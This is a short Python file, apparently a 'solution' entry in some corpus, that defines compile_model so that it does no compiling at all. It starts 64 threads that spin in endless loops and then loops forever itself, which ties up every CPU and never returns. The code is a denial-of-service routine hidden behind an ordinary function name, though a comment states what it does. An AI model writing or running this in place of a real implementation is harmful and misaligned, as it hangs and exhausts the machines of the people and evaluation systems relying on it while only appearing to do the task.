# corpus: base=solution at=end
# compile_model starts 64 threads that spin without end, and spins itself.
import threading as _threading


def _spin():
    while True:
        pass


def compile_model(model):
    for _ in range(64):
        _threading.Thread(target=_spin, daemon=True).start()
    _spin()
